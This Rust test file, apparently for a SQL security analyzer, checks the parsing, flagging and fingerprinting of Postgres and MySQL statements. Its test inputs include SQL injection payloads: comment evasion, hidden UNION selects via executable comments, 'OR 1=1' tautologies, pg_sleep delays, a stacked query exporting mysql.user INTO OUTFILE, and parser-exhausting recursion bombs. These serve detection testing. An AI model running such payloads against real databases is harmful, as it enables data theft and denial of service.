        (PG, "SELECT 1 /*!50000UNION SELECT 2*/", &[F::Comment], &[F::ExecutableComment, F::Union]),
    ];
    for (dialect, sql, set, unset) in cases {
        let a = run(*dialect, sql);
        for flag in *set {
            assert!(
                a.flags.contains(*flag),
                "{sql}: {flag:?} not in {:?}",
                a.flags
            );
        }
        for flag in *unset {
            assert!(!a.flags.contains(*flag), "{sql}: {flag:?} in {:?}", a.flags);
        }
    }
}

#[test]
fn comment_evasion_parses_where_the_server_would() {
    // Comments between keywords are whitespace to the server and to us.
    let a = run(PG, "SELECT/**/name/**/FROM/**/population");
    assert!(a.is_parsed());
    assert_eq!(objects(&a.statements[0], PG), ["population:r"]);
    // A comment inside a keyword is a syntax error on the server too: fallback with hints.
    let a = run(PG, "SEL/**/ECT name FROM population");
    assert!(matches!(a.parse, Parse::Fallback { .. }), "{:?}", a.parse);
    // MySQL executes `/*! */` contents: the hidden UNION reaches the parser.
    let a = run(
        MY,
        "SELECT name FROM population WHERE id = 1 /*!50000UNION*/ SELECT id_card FROM population",
    );
    assert!(a.is_parsed(), "{:?}", a.parse);
    assert_eq!(
        outputs(&a.statements[0], MY),
        ["name=plain<-population.name:plain,population.id_card:plain"]
    );
}

#[test]
fn functions_and_limits() {
    let st = first(
        PG,
        "SELECT upper(name), pg_catalog.pg_sleep(1), COUNT(*) FROM population LIMIT 5",
    );
    assert_eq!(st.functions, ["upper", "pg_catalog.pg_sleep", "count"]);
    assert_eq!(st.limit, Some(5));
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, Option<u64>)] = &[
        (PG, "SELECT name FROM population FETCH FIRST 7 ROWS ONLY", Some(7)),
        (MY, "SELECT name FROM population LIMIT 10, 20", Some(20)),
        (PG, "SELECT name FROM population LIMIT 3 OFFSET 100", Some(3)),
        (PG, "SELECT name FROM population LIMIT $1", None),
        (PG, "SELECT name FROM (SELECT name FROM population LIMIT 3) t", None),
        (PG, "SELECT name FROM population UNION SELECT name FROM license ORDER BY 1 LIMIT 9", Some(9)),
    ];
    for (dialect, sql, want) in cases {
        assert_eq!(first(*dialect, sql).limit, *want, "{sql}");
    }
    // A LIMIT parameter is a limit, just not a literal one.
    assert!(
        !run(PG, "SELECT name FROM population LIMIT $1")
            .flags
            .contains(Flag::NoLimit)
    );
}

#[test]
fn session_switches() {
    assert_eq!(
        first(MY, "USE Other").switches_schema.as_deref(),
        Some("other")
    );
    assert_eq!(
        first(PG, "SET search_path = audit, public")
            .switches_schema
            .as_deref(),
        Some("audit")
    );
    assert_eq!(
        first(PG, "SET search_path TO 'audit'")
            .switches_schema
            .as_deref(),
        Some("audit")
    );
}

#[test]
fn cursors_carry_their_query() {
    let d = first(
        PG,
        "DECLARE \"C1\" CURSOR WITHOUT HOLD FOR SELECT id_card, name FROM population",
    );
    assert_eq!(d.cursor, Some(CursorUse::Declare("C1".into())));
    let outs: Vec<_> = d.outputs.iter().map(|o| o.name.as_str()).collect();
    assert_eq!(outs, ["id_card", "name"]);
    assert!(d.flags.contains(Flag::NoLimit));
    assert_eq!(
        first(PG, "FETCH FORWARD 100 FROM \"C1\"").cursor,
        Some(CursorUse::Fetch("C1".into()))
    );
    assert_eq!(
        first(PG, "close c1").cursor,
        Some(CursorUse::Close(Some("c1".into())))
    );
    assert_eq!(first(PG, "CLOSE ALL").cursor, Some(CursorUse::Close(None)));
}

#[test]
fn fingerprints() {
    let a = run(PG, "SELECT * FROM t WHERE id = 1");
    let b = run(PG, "select *  from T where ID=42");
    assert_eq!(a.normalized, "SELECT * FROM t WHERE id = ?");
    assert_eq!(a.normalized, b.normalized);
    assert_eq!(a.fingerprint, b.fingerprint);
    let c = run(PG, "SELECT * FROM t WHERE id IN (1, 2, 3)");
    let d = run(PG, "SELECT * FROM t WHERE id IN ($1)");
    assert_eq!(c.fingerprint, d.fingerprint);
    assert_ne!(a.fingerprint, c.fingerprint);
    // Stable across runs and platforms: a fixed value.
    assert_eq!(a.fingerprint, fnv1a64(b"SELECT * FROM t WHERE id = ?"));
    // Statements that do not parse get one too.
    let e = run(PG, "SEL/**/ECT * FROM t WHERE id = 7");
    assert_eq!(e.normalized, "sel ect * FROM t WHERE id = ?");
    let f = run(MY, "SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/a'");
    let g = run(MY, "select * from T where id = 2 into outfile '/tmp/b'");
    assert_eq!(f.fingerprint, g.fingerprint);
}

#[test]
fn stacked_statements_each_get_their_analysis() {
    let a = run(
        MY,
        "SELECT name FROM population WHERE id = 1; SELECT * FROM mysql.user INTO OUTFILE '/tmp/x'",
    );
    assert_eq!(a.statements.len(), 2);
    assert!(a.flags.contains(Flag::Stacked));
    assert_eq!(a.statements[0].parse, Parse::Parsed);
    assert!(matches!(a.statements[1].parse, Parse::Fallback { .. }));
    assert_eq!(a.statements[1].kind, StatementKind::Export);
    assert!(matches!(a.parse, Parse::Fallback { .. }));
    assert_eq!(objects(&a.statements[1], MY), ["mysql.user:r"]);
}

#[test]
fn recursion_bombs_fall_back() {
    let bombs = [
        format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000)),
        format!(
            "SELECT {}1{}",
            "(SELECT ".repeat(10_000),
            ")".repeat(10_000)
        ),
        format!(
            "SELECT * FROM population WHERE id IN {}1{}",
            "(SELECT id FROM population WHERE id IN (".repeat(2_000),
            "))".repeat(2_000)
        ),
        format!("SELECT 1{}", "+1".repeat(100_000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(50_000)),
        format!("SELECT 1 WHERE {}true", "a = 1 OR ".repeat(50_000)),
        format!("SELECT a{}", "::int".repeat(50_000)),
        format!("SELECT a{}", "[1]".repeat(50_000)),
        format!("SELECT {}1", "NOT ".repeat(50_000)),
        format!("SELECT {}1", "-".repeat(50_000)),
        format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(10_000)),
        format!("SELECT a FROM {}", "(".repeat(10_000)),
    ];
    for dialect in [PG, MY] {
        for sql in &bombs {
            // On a small stack, like a tokio worker's.
            let sql = sql.clone();
            let handle = std::thread::Builder::new()
                .stack_size(2 << 20)
                .spawn(move || run(dialect, &sql))
                .expect("spawn");
            let a = handle.join().expect("analysis of a bomb panicked");
            assert!(
                !a.is_parsed(),
                "{:?}",
                &a.normalized[..40.min(a.normalized.len())]
            );
        }
    }
    // Deep but reasonable statements still parse.
    let nested = format!("SELECT {}1{}", "(".repeat(20), ")".repeat(20));
    assert!(run(PG, &nested).is_parsed());
    let ors = format!(
        "SELECT name FROM population WHERE {}id = 0",
        "id = 1 OR ".repeat(500)
    );
    assert!(run(PG, &ors).is_parsed());
}

#[test]
fn adversarial_sizes_stay_bounded() {
    // A long run of comments (a quadratic neighbour search would take minutes).
    let a = run(PG, &format!("SELECT 1 {}", "/**/".repeat(100_000)));
    assert!(a.flags.contains(Flag::Comment) && !a.flags.contains(Flag::CommentEvasion));
    // Wide expressions: one output with every source.
    let args: Vec<String> = (0..20_000).map(|i| format!("a{i}")).collect();
    let a = analyze(
        &format!("SELECT concat({}) FROM t", args.join(", ")),
        &context(PG),
        &NoSchema,
    );
    assert!(a.is_parsed());
    assert_eq!(a.statements[0].outputs[0].sources.len(), 20_000);
    // Lineage that multiplies: a wide CTE joined to itself many times.
    let cols: Vec<String> = (0..2_000).map(|i| format!("1 AS a{i}")).collect();
    let joins: Vec<String> = (0..2_000).map(|i| format!("c c{i}")).collect();
    let a = run(
        PG,
        &format!(
            "WITH c AS (SELECT {}) SELECT * FROM {}",
            cols.join(", "),
            joins.join(", ")
        ),
    );
    assert!(!a.is_parsed());
    assert!(a.flags.contains(Flag::TooComplex));
    // Nested IN lists in the fingerprint.
    let a = run(
        PG,
        &format!(
            "SELECT 1 WHERE x IN {}1{}",
            "(x IN (".repeat(1_000),
            "))".repeat(1_000)
        ),
    );
    assert!(!a.normalized.is_empty());
}

#[test]
fn garbage_never_panics() {
    let mut inputs: Vec<String> = vec![
        String::new(),
        " ".into(),
        ";;;".into(),
        "'unterminated".into(),
        "/* unterminated".into(),
        "\"unterminated".into(),
        "$$ unterminated".into(),
        "SELECT 'a' 'b' 'c' FROM".into(),
        "))))((((".into(),
        "SELECT * FROM population WHERE".into(),
        "\u{0}\u{1}\u{2}SELECT".into(),
        "SELECT 'é' FROM 表 WHERE 列 = '值'".into(),
        "/*!".into(),
        "/*!50000".into(),
        "/*M!".into(),
        "SELECT `".into(),
        "INSERT INTO".into(),
        "COPY".into(),
        "PREPARE s FROM 'PREPARE t FROM ''SELECT 1'''".into(),
        "SELECT 1e999999, -9223372036854775809, 0x".into(),
        "SELECT * FROM t WHERE a = 1 OR '".into(),
        "\\copy population to 'x'".into(),
        "SELECT ?::int, $1::text, :name, @x := 1".into(),
    ];
    // Pseudo-random bytes made into text, deterministically.
    let mut seed: u64 = 0x2545_F491_4F6C_DD1D;
    for _ in 0..300 {
        let mut bytes = Vec::new();
        for _ in 0..(seed % 64) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            bytes
                .push(b"SELECT FROM WHERE ()'\"`;/*!-+=<>,.$1?xyz0123 \n\\#"[(seed % 48) as usize]);
        }
        inputs.push(String::from_utf8_lossy(&bytes).into_owned());
    }
    for sql in &inputs {
        for dialect in [PG, MY] {
            let a = run(dialect, sql);
            // Unreadable or not, the analysis is complete enough to decide on.
            let _ = (a.fingerprint, a.flags, a.statements.len());
        }
    }
    let a = run(PG, "SELECT 'unterminated");
    assert!(matches!(a.parse, Parse::Unreadable { .. }), "{:?}", a.parse);
    assert_eq!(a.statements[0].kind, StatementKind::Read);
    let a = run(PG, "SELECT pg_sleep(10) -- and then '");
    assert!(a.is_parsed());
    let a = run(PG, "SELECT pg_sleep(10), 'oops");
    assert!(
        a.flags.contains(Flag::TimeDelay),
        "hints before a tokenizer error count"
    );
}

#[test]
fn visitor_relations_are_all_accounted_for() {
    // Every relation sqlparser sees is either an object we report or a CTE name.
    let sqls = [
        "SELECT p.name FROM population p JOIN license l ON l.holder_id_card = p.id_card WHERE p.id IN (SELECT id FROM bank_account)",
        "WITH c AS (SELECT * FROM credit_record) SELECT * FROM c JOIN legal_person USING (uscc)",
        "INSERT INTO license SELECT * FROM population WHERE EXISTS (SELECT 1 FROM open_dataset)",
        "UPDATE population SET name = (SELECT name FROM legal_person LIMIT 1) WHERE id = 1",
        "DELETE FROM population USING license WHERE license.id = population.id",
    ];
    let cx = context(PG);
    for sql in sqls {
        let parsed =
            sqlparser::parser::Parser::parse_sql(&sqlparser::dialect::PostgreSqlDialect {}, sql)
                .expect("test SQL parses");
        let mut seen = Vec::new();
        let _ = sqlparser::ast::visit_relations(&parsed, |r| {
            seen.push(cx.resolve_object(r));
            std::ops::ControlFlow::<()>::Continue(())
        });
        let st = first(PG, sql);
        for name in seen {
            assert!(
                name.name == "c" || st.objects.iter().any(|o| o.name == name),
                "{sql}: {name} missing from {:?}",
                st.objects
            );
        }
    }
}

#[test]
fn analysis_serializes() {
    let a = run(PG, "SELECT name FROM population WHERE id_card = $1 OR 1=1");
    let json = serde_json_like(&a);
    assert!(json.contains("tautology"), "{json}");
}

/// A tiny serializer check without pulling serde_json into this crate: `toml` can
/// serialize maps and sequences.
fn serde_json_like(a: &Analysis) -> String {
    #[derive(serde::Serialize)]
    struct Wrap<'a> {
        analysis: &'a Analysis,
    }
    toml::to_string(&Wrap { analysis: a }).unwrap_or_else(|e| format!("error: {e}"))
}

/// Every literal of `sql` given another value of its kind, through the tokenizer so that
/// only literals change.
fn other_literals(dialect: Dialect, sql: &str) -> String {
    use sqlparser::tokenizer::Token;
    let tokens = lexical::tokenize(sql, dialect).expect("tokenizes");
    let mut out = String::new();
    for t in tokens {
        match t.token {
            Token::Number(n, _) if n.contains('.') => out.push_str("7.25"),
            Token::Number(..) => out.push('7'),
            Token::SingleQuotedString(_) => out.push_str("'zz'"),
            other => out.push_str(&other.to_string()),
        }
    }
    out
}

#[test]
fn an_analysis_that_read_no_literal_holds_for_its_template() {
    let holds = [
        (PG, "SELECT name, phone FROM population WHERE id = 42"),
        (
            PG,
            "SELECT abalance FROM pgbench_accounts WHERE aid = 4711;",
        ),
        (
            PG,
            "SELECT * FROM population WHERE district_code IN ('330102', '330105')",
        ),
        (PG, "UPDATE license SET status = 'revoked' WHERE id = 9"),
        (
            PG,
            "INSERT INTO credit_record (id, uscc, record_type) VALUES (1, 'x', 'fine'), (2, 'y', 'fine')",
        ),
        (
            PG,
            "SELECT count(*) FROM population WHERE birth_date > '1990-01-01' AND gender = 'F'",
        ),
        (
            PG,
            "SELECT substr(id_card, 1, 6) FROM population WHERE name LIKE '张%'",
        ),
        (MY, "SELECT name FROM population WHERE id = 42"),
        (MY, "DELETE FROM license WHERE id = 3"),
    ];
    for (dialect, sql) in holds {
        let a = run(dialect, sql);
        assert!(!a.literals_read, "{sql}: no literal value matters here");
        let other = other_literals(dialect, sql);
        assert_ne!(sql, other, "the mutation changes something");
        assert_eq!(
            template_key(sql, dialect),
            template_key(&other, dialect),
            "{other}"
        );
        assert_eq!(a, run(dialect, &other), "{sql} vs {other}");
    }
}

#[test]
fn an_analysis_that_read_a_literal_is_for_its_text_only() {
    let sensitive = [
        (PG, "SELECT name FROM population WHERE id = 1 OR 1=2"),
        (PG, "SELECT name FROM population WHERE id = 1 OR 'a'='b'"),
        (PG, "SELECT name FROM population LIMIT 10"),
        (PG, "SELECT name, id_card FROM population ORDER BY 2"),
        (PG, "SET search_path = 'restricted'"),
        (PG, "SELECT name FROM population FETCH FIRST 5 ROWS ONLY"),
        (MY, "SELECT name FROM population WHERE id = 1 OR 2>3"),
        (MY, "SELECT name FROM population WHERE name = '' || '1'"),
        (MY, "PREPARE s FROM 'SELECT id_card FROM population'"),
    ];
    for (dialect, sql) in sensitive {
        assert!(run(dialect, sql).literals_read, "{sql}");
    }
    // What the template cannot tell apart the analysis can: a tautology.
    let (not_taut, taut) = (
        "SELECT name FROM population WHERE id = 1 OR 1=2",
        "SELECT name FROM population WHERE id = 1 OR 1=1",
    );
    assert_eq!(template_key(not_taut, PG), template_key(taut, PG));
    assert!(!run(PG, not_taut).flags.contains(Flag::Tautology));
    assert!(run(PG, taut).flags.contains(Flag::Tautology));
}

#[test]
fn template_keys_keep_everything_but_literal_values() {
    let key = |sql| template_key(sql, PG);
    let base = key("SELECT name FROM population WHERE id = 1");
    assert!(base.is_some());
    assert_eq!(base, key("SELECT name  FROM population\nWHERE id = 99"));
    for other in [
        "SELECT name FROM population WHERE id = '1'",
        "SELECT name FROM population WHERE id = $1",
        "SELECT id_card FROM population WHERE id = 1",
        "SELECT name FROM population WHERE id = 1 -- hi",
        "SELECT name FROM population WHERE \"id\" = 1",
        "select name FROM population WHERE id = 1",
    ] {
        assert_ne!(base, key(other), "{other}");
    }
    assert_eq!(key("SELECT 'unterminated"), None);
}
